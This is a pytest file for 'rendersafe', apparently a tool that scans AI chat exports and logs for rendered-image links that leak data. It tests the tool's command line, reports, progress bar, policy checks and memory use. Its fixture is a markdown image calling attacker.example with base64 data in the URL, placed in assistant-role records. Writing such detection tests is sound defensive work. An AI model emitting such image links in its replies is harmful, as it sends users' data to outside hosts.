"""The scan's command line as people use ruff or mypy, in real processes: --version,
help with exit codes, reports on stdout, 'no input files', a progress bar only on a
terminal, `policy check`, SARIF rules, --json-path wildcards and role paths, and a
JSON list of gigabytes read in constant memory."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import subprocess
import sys
from pathlib import Path

import pytest

import docs_site
from rendersafe import __version__
from rendersafe.findings import Reason

ROOT = Path(__file__).parent.parent
SRC = ROOT / "src"
EXPORTS = ROOT / "fixtures" / "exports"
CHATGPT = EXPORTS / "chatgpt" / "conversations.json"
IMG = "![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)"


def env(**extra: str) -> dict[str, str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith("RENDERSAFE_")}
    return {**clean, "PYTHONPATH": str(SRC), **extra}


def rendersafe(*args: str, **extra: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "rendersafe", *args],
        env=env(**extra),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_version() -> None:
    done = rendersafe("--version")
    assert done.returncode == 0
    assert done.stdout == f"rendersafe {__version__}\n"


def test_help_is_for_users_and_names_the_exit_codes() -> None:
    top, scan = rendersafe("--help"), rendersafe("scan", "--help")
    assert top.returncode == scan.returncode == 0
    for text in (top.stdout, scan.stdout):
        assert "exit codes:" in text
        assert re.search(r"^\s+2\s+usage", text, re.MULTILINE)
        assert "run(argv)" not in text
        assert "`" not in text  # no docstring markup
    assert "--json-path" in scan.stdout
    assert "ChatGPT" in scan.stdout


@pytest.mark.parametrize("flag", ["--json", "--sarif"])
def test_report_to_stdout_parses_and_the_table_goes_to_stderr(flag: str) -> None:
    done = rendersafe("scan", str(CHATGPT), flag, "-", "--jobs", "1")
    assert done.returncode == 1
    report = json.loads(done.stdout)
    if flag == "--json":
        assert report["summary"]["findings"] == 2
    else:
        assert len(report["runs"][0]["results"]) == 2
    assert "findings 2" in done.stderr  # the summary, out of the way of the report


def test_two_reports_cannot_share_stdout() -> None:
    done = rendersafe("scan", str(CHATGPT), "--json", "-", "--sarif", "-")
    assert done.returncode == 2
    assert "only one of" in done.stderr


def test_no_input_files_is_a_usage_error(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "notes.pdf").write_bytes(b"%PDF")
    for argument in ("empty", "other", "logs/*.jsonl", "**/*.jsonl"):
        done = subprocess.run(
            [sys.executable, "-m", "rendersafe", "scan", argument],
            env=env(),
            cwd=tmp_path,
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 2, (argument, done.stderr)
        assert "no input files" in done.stderr, argument
        assert done.stdout == ""


def test_a_glob_is_expanded_and_fixes_keep_paths_below_it(tmp_path: Path) -> None:
    logs = tmp_path / "logs" / "2024" / "06"
    logs.mkdir(parents=True)
    (logs / "a.jsonl").write_text(json.dumps({"reply": IMG}) + "\n")
    (logs / "b.txt").write_text("honest\n")
    done = subprocess.run(
        [sys.executable, "-m", "rendersafe", "scan", "logs/**/*.jsonl", "--fix", "out"],
        env=env(),
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr  # every finding fixed
    assert "\nfiles 1 " in done.stdout
    assert "attacker" not in (tmp_path / "out" / "2024" / "06" / "a.jsonl").read_text()


def _on_a_terminal(*args: str) -> tuple[int, str, str]:
    """Run a scan with stderr on a pseudo-terminal; exit code, stdout, what the
    terminal showed."""
    master, slave = pty.openpty()
    child = subprocess.Popen(
        [sys.executable, "-m", "rendersafe", "scan", *args],
        env=env(COLUMNS="100"),
        stdout=subprocess.PIPE,
        stderr=slave,
        stdin=subprocess.DEVNULL,
    )
    os.close(slave)
    shown = b""
    while True:
        ready, _, _ = select.select([master], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(master, 65536)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        shown += chunk
    assert child.stdout is not None
    with child.stdout:
        printed = child.stdout.read().decode()
    code = child.wait(timeout=60)
    os.close(master)
    return code, printed, shown.decode(errors="replace")


def test_progress_bar_on_a_terminal_only(tmp_path: Path) -> None:
    path = tmp_path / "big.jsonl"
    with path.open("w") as out:
        for number in range(16000):
            reply = IMG if number % 4000 == 0 else "An honest reply with no links. " * 8
            out.write(json.dumps({"id": f"r{number}", "reply": reply}) + "\n")
    code, printed, shown = _on_a_terminal(str(path), "--jobs", "1")
    assert code == 1
    assert re.search(r"^files 1 \(0 with errors\), records 16000", printed, re.MULTILINE)
    assert "scan:" in shown
    assert re.search(r"\d+(\.\d+)?[kM]?B/s", shown), shown  # a rate
    assert re.search(r"[\d.]+[kM]?/4\.\d+M ", shown), shown  # done / total bytes
    assert re.search(r"<\d\d:\d\d", shown), shown  # time left
    assert re.search(r"\r {40,}\r$", shown)  # cleared before the summary
    quiet = subprocess.run(
        [sys.executable, "-m", "rendersafe", "scan", str(path), "--jobs", "2"],
        env=env(),
        capture_output=True,
        text=True,
        check=False,
    )
    assert quiet.stderr == ""  # not a terminal: nothing


def test_policy_check_reports_every_error_with_the_environment(tmp_path: Path) -> None:
    policy = tmp_path / "rendersafe.toml"
    policy.write_text(
        'alowed_image_hosts = ["cdn.example.com"]\n'
        "max_url_length = 300\n"
        "[thresholds]\ntext_wrds = 3\n"
    )
    done = rendersafe("policy", "check", str(policy), RENDERSAFE_TRUSTED_LINK_HOSTS="not a host!!")
    assert done.returncode == 2
    lines = done.stderr.splitlines()
    assert len(lines) == 4, done.stderr
    assert "did you mean 'allowed_image_hosts'?" in lines[0]
    assert "did you mean 'max_url_chars' in [thresholds]?" in lines[1]
    assert "did you mean 'text_words'?" in lines[2]
    assert "$RENDERSAFE_TRUSTED_LINK_HOSTS" in lines[3]
    good = tmp_path / "good.toml"
    good.write_text('allowed_image_hosts = ["cdn.example.com"]\n')
    applied = rendersafe("policy", "check", str(good), RENDERSAFE_BLOCKED_HOSTS="evil.example")
    assert applied.returncode == 0, applied.stderr
    assert json.loads(applied.stdout)["blocked_hosts"] == ["evil.example"]


def test_sarif_rules_are_documented(tmp_path: Path) -> None:
    done = rendersafe("scan", str(EXPORTS), "--sarif", "-", "--quiet", "--jobs", "1")
    log = json.loads(done.stdout)
    rules = log["runs"][0]["tool"]["driver"]["rules"]
    assert {rule["id"] for rule in rules} == {str(reason) for reason in Reason}
    readme = docs_site.page("reference/reason-codes.md")
    for rule in rules:
        assert len(rule["fullDescription"]["text"]) > 30
        anchor = rule["helpUri"].rpartition("#")[2]
        assert f'id="{anchor}"' in readme, anchor
        assert 0.0 < float(rule["properties"]["security-severity"]) <= 10.0
    ids = {rule["id"] for rule in rules}
    assert all(result["ruleId"] in ids for result in log["runs"][0]["results"])


def test_json_path_wildcards_and_roles(tmp_path: Path) -> None:
    parts = "mapping.*.message.content.parts[]"
    roles = "mapping.*.message.author.role"
    done = rendersafe("scan", str(CHATGPT), "--json-path", parts, "--role-path", roles,
                      "--json", "-", "--quiet", "--jobs", "1")  # fmt: skip
    report = json.loads(done.stdout)
    assert done.returncode == 1
    assert report["errors"] == []
    assert {row["role"] for row in report["findings"]} == {"model"}
    assert report["summary"]["findings"] == 2  # the user's tracker image is not judged
    every = rendersafe("scan", str(CHATGPT), "--json-path", parts, "--json", "-", "--quiet")
    assert json.loads(every.stdout)["summary"]["findings"] == 3  # no roles: all judged


def test_a_json_path_that_matches_nothing_is_an_error_naming_the_file(tmp_path: Path) -> None:
    done = rendersafe("scan", str(CHATGPT), "--json-path", "mapping.*.message.text",
                      "--json", "-", "--quiet")  # fmt: skip
    assert done.returncode == 1
    (error,) = json.loads(done.stdout)["errors"]
    assert error["path"] == str(CHATGPT)
    assert "--json-path mapping.*.message.text matched nothing" in error["message"]
    assert str(CHATGPT) in done.stderr


def test_a_large_json_list_is_read_in_constant_memory(tmp_path: Path) -> None:
    """A 60 MB ChatGPT-style list: loaded whole it is several times that in objects;
    read a record at a time, the peak stays near a small file's."""
    small, big = tmp_path / "small.json", tmp_path / "big.json"
    node = {"id": "n", "message": {"author": {"role": "user"}, "content": {"parts": ["x"]}}}
    user = {"author": {"role": "user"}, "content": {"content_type": "text", "parts": ["y" * 2000]}}
    filler = {"mapping": {f"u{i}": {"message": user, "parent": None} for i in range(20)}}
    attack = {"mapping": {"a": {"message": {"author": {"role": "assistant"},
                                            "content": {"parts": [IMG]}}}}}  # fmt: skip
    small.write_text(json.dumps([{"mapping": {"n": node}}, attack]))
    with big.open("w") as out:
        out.write("[")
        for _ in range(1500):
            out.write(json.dumps(filler) + ",\n")
        out.write(json.dumps(attack) + "]")
    assert big.stat().st_size > 60_000_000

    def peak(path: Path) -> tuple[float, subprocess.CompletedProcess[str]]:
        code = "import resource, runpy, sys; sys.argv = sys.argv[1:];"
        code += 'exec(\'try: runpy.run_module("rendersafe", run_name="__main__")\\nexcept SystemExit: pass\');'  # noqa: E501
        code += "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)"
        done = subprocess.run(
            [
                sys.executable,
                "-c",
                code,
                "rendersafe",
                "scan",
                str(path),
                "--jobs",
                "1",
                "--json",
                str(tmp_path / f"{path.stem}.report.json"),
                "--quiet",
            ],
            env=env(),
            capture_output=True,
            text=True,
            check=False,
        )
        return int(done.stderr.strip().splitlines()[-1]) / 1024, done

    baseline, _ = peak(small)
    high, _ = peak(big)
    report = json.loads((tmp_path / "big.report.json").read_text())
    assert report["summary"]["records"] == 1501
    assert report["summary"]["findings"] == 1  # the last record was read too
    assert report["errors"] == []
    assert high < baseline + 30, (baseline, high)


def test_readme_names_the_logger_audit_sink_failures_go_to() -> None:
    from rendersafe.audit import log  # noqa: PLC0415

    readme = (ROOT / "docs" / "guides" / "audit-log.md").read_text()
    paragraph = readme[readme.index("**A full disk.**") :].split("\n\n", 1)[0]
    assert f"`{log.logger.name}`" in " ".join(paragraph.split()), paragraph
